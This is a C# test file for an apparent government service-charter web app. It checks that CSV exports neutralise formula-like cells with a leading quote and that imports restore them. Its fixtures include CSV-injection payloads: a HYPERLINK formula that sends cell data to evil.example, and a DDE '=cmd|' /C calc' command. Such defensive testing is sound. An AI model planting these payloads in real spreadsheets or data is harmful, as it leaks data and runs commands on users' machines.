using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using MiniExcelLibs;
using Protishruti.Domain.Charters;
using Protishruti.Tests.Infrastructure;
using Protishruti.Web.Features.Charters.Exchange;
using Protishruti.Web.Infrastructure.Csv;

namespace Protishruti.Tests.Features.Security;

/// <summary>
/// A cell a spreadsheet would run as a formula is written with a leading <c>'</c> in every CSV the app offers
/// (OWASP, "CSV Injection"), in one place (CsvWriter); XLSX cells stay as they are; and the charter CSV importer takes
/// the quote off again, so a charter exported and imported is unchanged.
/// </summary>
public sealed class CsvNeutralisingTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example\",\"ক্লিক\")")]
    [InlineData("+8801711000000")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\tট্যাব")]
    [InlineData("\rফেরত")]
    public void A_formula_like_cell_is_written_as_text_and_read_back_as_it_was(string cell)
    {
        var csv = Encoding.UTF8.GetString(CsvWriter.ToUtf8WithBom(["name", "note"], [[cell, "সাধারণ"]]));
        var written = csv.Split("\r\n")[1];
        written.TrimStart('"').ShouldStartWith("'" + cell[0]);
        CsvTable.Parse(csv).Rows.Single()["name"].ShouldBe(cell.Trim());
    }

    [Theory]
    [InlineData("জন্ম নিবন্ধন")]
    [InlineData("50")]
    [InlineData("a-b=c")]
    [InlineData("'quoted already")]
    public void Other_cells_are_left_alone(string cell)
    {
        var csv = Encoding.UTF8.GetString(CsvWriter.ToUtf8WithBom(["name"], [[cell]]));
        csv.Split("\r\n")[1].ShouldBe(cell);
        CsvTable.Parse(csv).Rows.Single()["name"].ShouldBe(cell);
    }
}

public abstract class CsvInjectionTests<TApp>(TApp app) : AppTests<TApp>(app) where TApp : TestApp
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"বিস্তারিত\")",
        "+৮৮০ হটলাইন সেবা",
        "-সেবা বিয়োগ",
        "@SUM(1+1) সেবা",
    ];

    [Fact]
    public async Task The_charter_csv_neutralises_formula_cells_the_xlsx_keeps_them_and_the_csv_imports_back_unchanged()
    {
        var office = await App.NewOfficeAsync(kind: "district", parentCode: "doc");
        await App.PublishCharterAsync(office, LayoutProfile.Field8, Hostile);

        var response = await App.Browser().GetAsync($"/offices/{office.Code}/charter.csv", Ct);
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        var bytes = await response.Content.ReadAsByteArrayAsync(Ct);
        var text = Encoding.UTF8.GetString(bytes);
        text.ShouldContain("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1");
        text.ShouldContain(",'+৮৮০ হটলাইন সেবা,");
        text.ShouldContain(",'-সেবা বিয়োগ,");
        text.ShouldContain(",'@SUM(1+1) সেবা,");
        text.ShouldNotContain(",=");
        text.ShouldNotContain(",+");
        text.ShouldNotContain(",@");

        using (var xlsx = new MemoryStream(await App.Browser().GetByteArrayAsync($"/offices/{office.Code}/charter.xlsx", Ct)))
        {
            var names = xlsx.Query(useHeaderRow: true, sheetName: "services").Cast<IDictionary<string, object>>().Select(r => (string)r["name_bn"]).ToList();
            names.ShouldBe(Hostile, ignoreOrder: true);
        }

        // Our own export imported into the office's draft: the same charter, with no quote added to any name.
        var result = await App.WithDbAsync(async db =>
        {
            var o = await db.Offices.AsNoTracking().SingleAsync(x => x.Id == office.Id, Ct);
            return await new CharterImporter(db).ImportAsync(o, CharterSheets.ReadCsv(text), Ct);
        });
        result.Errors.ShouldBeEmpty();
        var charter = await App.WithDbAsync(async db => (await CharterImporter.LoadCharterAsync(db, office.Id, Ct))!);
        charter.Open!.Services.Select(s => s.NameBn).ShouldBe(Hostile, ignoreOrder: true);
        CharterDiff.Between(charter.Current!, charter.Open).ShouldBeEmpty();
    }

    [Fact]
    public async Task The_compliance_csv_neutralises_an_office_name_that_starts_a_formula()
    {
        var root = await App.NewOfficeAsync(kind: "district", parentCode: "divcom-rajshahi");
        var child = await App.NewOfficeAsync(kind: "upazila", parentCode: root.Code);
        await App.WithDbAsync(async db =>
        {
            (await db.Offices.SingleAsync(o => o.Id == child.Id, Ct)).Rename("=cmd|' /C calc'!A0", "@SUM(9*9)");
            return await db.SaveChangesAsync(Ct);
        });
        var monitor = await App.LoggedInAsync("monitor.mopa");

        var response = await monitor.GetAsync($"/offices/{root.Code}/compliance.csv?fy=2024-25&quarter=1", Ct);
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        var line = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync(Ct)).Split("\r\n").Single(l => l.StartsWith(child.Code + ",", StringComparison.Ordinal));
        line.ShouldStartWith($"{child.Code},'=cmd|' /C calc'!A0,'@SUM(9*9),");
    }
}

public sealed class CsvInjectionTests_Sqlite(SqliteApp app) : CsvInjectionTests<SqliteApp>(app), IClassFixture<SqliteApp>;
[Trait("Database", "Postgres")]
public sealed class CsvInjectionTests_Postgres(PostgresApp app) : CsvInjectionTests<PostgresApp>(app), IClassFixture<PostgresApp>;
